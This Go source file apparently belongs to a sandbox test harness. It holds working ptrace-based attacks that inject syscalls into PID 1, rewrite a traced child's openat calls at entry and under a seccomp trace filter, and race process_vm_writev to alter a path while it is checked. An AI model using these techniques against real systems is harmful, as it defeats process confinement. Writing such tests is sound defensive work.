package nameattacks

import (
	"errors"
	"fmt"
	"os/exec"
	"runtime"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// What a tracer has others do.
var tracing = []attack{
	{group: "tracing", name: "first process", quiet: true, run: traceFirst},
	{group: "tracing", name: "call replaced as it begins", run: func() error { return traceVictim("opens", syscall.PTRACE_O_TRACESYSGOOD) }},
	{group: "tracing", name: "call replaced behind a filter", run: func() error { return traceVictim("asks", unix.PTRACE_O_TRACESECCOMP) }},
	{group: "tracing", name: "path of another process", raced: true, run: rewriteVictim},
}

const marked = unix.O_NOCTTY | unix.O_DIRECT // flags that only the victims use

func init() {
	helpers["opens"] = func([]string) error {
		for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
			_ = shut(unix.Open("plain", marked, 0))
		}
		return nil
	}
	helpers["asks"] = func([]string) error {
		const ld, jeq, end = unix.BPF_LD | unix.BPF_W | unix.BPF_ABS, unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, unix.BPF_RET | unix.BPF_K
		prog := []unix.SockFilter{{Code: ld}, {Code: jeq, Jf: 1, K: unix.SYS_GETPPID}, {Code: end, K: unix.SECCOMP_RET_TRACE}, {Code: end, K: unix.SECCOMP_RET_ALLOW}}
		if _, err := raw(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, 0, ptr(&unix.SockFprog{Len: uint16(len(prog)), Filter: &prog[0]})); err != nil {
			return err
		}
		for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
			_, _ = raw(unix.SYS_GETPPID)
		}
		return nil
	}
}

// traceFirst has the sandbox's first process, which nothing holds, make a file.
func traceFirst() error {
	runtime.LockOSThread()
	const pid = 1
	if _, err := raw(unix.SYS_PTRACE, unix.PTRACE_SEIZE, pid, 0, 0); err != nil {
		return err
	}
	if _, err := raw(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, pid, 0, 0); err != nil {
		return err
	}
	var status syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &status, syscall.WALL, nil); err != nil {
		return err
	}
	var saved, regs syscall.PtraceRegs
	if err := syscall.PtraceGetRegs(pid, &saved); err != nil {
		return err
	}
	regs = saved
	at := uintptr(regs.Rsp) - 1024
	if _, err := syscall.PtracePokeData(pid, at, []byte(inside+"/.env\x00\x00\x00")); err != nil {
		return err
	}
	regs.Rip -= 2 // the instruction that it waits in
	regs.Rax, regs.Orig_rax, regs.Rdi, regs.Rsi = unix.SYS_CREAT, ^uint64(0), uint64(at), 0o644
	if err := syscall.PtraceSetRegs(pid, &regs); err != nil {
		return err
	}
	if err := syscall.PtraceSingleStep(pid); err != nil {
		return err
	}
	if _, err := syscall.Wait4(pid, &status, syscall.WALL, nil); err != nil {
		return err
	}
	return errors.Join(syscall.PtraceGetRegs(pid, &regs), syscall.PtraceSetRegs(pid, &saved), syscall.PtraceDetach(pid))
}

// traceVictim makes another call of one that a victim begins.
func traceVictim(name string, options int) error {
	runtime.LockOSThread()
	cmd := exec.Command(self, helperPart, name)
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	if err := cmd.Start(); err != nil {
		return err
	}
	pid := cmd.Process.Pid
	defer func() { _ = cmd.Process.Kill() }()
	var status syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &status, syscall.WALL, nil); err != nil {
		return err
	}
	if err := syscall.PtraceSetOptions(pid, options); err != nil {
		return err
	}
	for sig, replaced := 0, 0; replaced < 20; {
		var err error
		if options == syscall.PTRACE_O_TRACESYSGOOD {
			err = syscall.PtraceSyscall(pid, sig)
		} else {
			err = syscall.PtraceCont(pid, sig)
		}
		if err != nil {
			return err
		}
		if _, err := syscall.Wait4(pid, &status, syscall.WALL, nil); err != nil {
			return err
		}
		if !status.Stopped() {
			return fmt.Errorf("the victim ended, %d calls were replaced", replaced)
		}
		call := status.StopSignal() == syscall.SIGTRAP|0x80
		sig = 0
		switch {
		case call, status.StopSignal() == syscall.SIGTRAP:
		default:
			sig = int(status.StopSignal())
			continue
		}
		var regs syscall.PtraceRegs
		if err := syscall.PtraceGetRegs(pid, &regs); err != nil {
			return err
		}
		begins := call && regs.Orig_rax == unix.SYS_OPENAT && regs.Rdx&marked == marked && int64(regs.Rax) == -int64(unix.ENOSYS)
		if !begins && status.TrapCause() != unix.PTRACE_EVENT_SECCOMP {
			continue
		}
		replaced++
		at := uintptr(regs.Rsp) - 1024
		if _, err := syscall.PtracePokeData(pid, at, []byte(inside+"/.env\x00\x00\x00")); err != nil {
			return err
		}
		regs.Orig_rax, regs.Rdi, regs.Rsi = unix.SYS_CREAT, uint64(at), 0o644
		if replaced%2 == 0 {
			regs.Orig_rax, regs.Rdi, regs.Rsi, regs.Rdx, regs.R10 = unix.SYS_OPENAT, uint64(ptrHere), uint64(at), unix.O_CREAT|unix.O_WRONLY, 0o644
		}
		if err := syscall.PtraceSetRegs(pid, &regs); err != nil {
			return err
		}
	}
	return nil
}

func init() {
	helpers["repeats"] = func([]string) error {
		mem := pages(1)
		copy(mem, inside+"/.env")
		_ = shut(unix.Creat(inside+"/.env", 0o644))
		fmt.Printf("%d\n", ptr(&mem[0]))
		for end := time.Now().Add(time.Hour); time.Now().Before(end); {
			if fd, err := raw(unix.SYS_OPENAT, ptrHere, ptr(&mem[0]), unix.O_CREAT|unix.O_WRONLY, 0o644); err == nil {
				_ = unix.Close(int(fd))
			}
		}
		return nil
	}
}

// rewriteVictim writes into the memory of another process while its call is looked at.
func rewriteVictim() error {
	cmd := exec.Command(self, helperPart, "repeats")
	out, err := cmd.StdoutPipe()
	if err != nil {
		return err
	}
	if err := cmd.Start(); err != nil {
		return err
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	var at uint64
	if _, err := fmt.Fscan(out, &at); err != nil {
		return err
	}
	letter := [1]byte{}
	write := func(c byte) {
		letter[0] = c
		local := []unix.Iovec{{Base: &letter[0], Len: 1}}
		_, _ = unix.ProcessVMWritev(cmd.Process.Pid, local, []unix.RemoteIovec{{Base: uintptr(at) + uintptr(len(inside+"/.en")), Len: 1}}, 0)
	}
	return race(func(i int) { write("vx"[i%2]) }, func(int) { time.Sleep(time.Millisecond) })
}
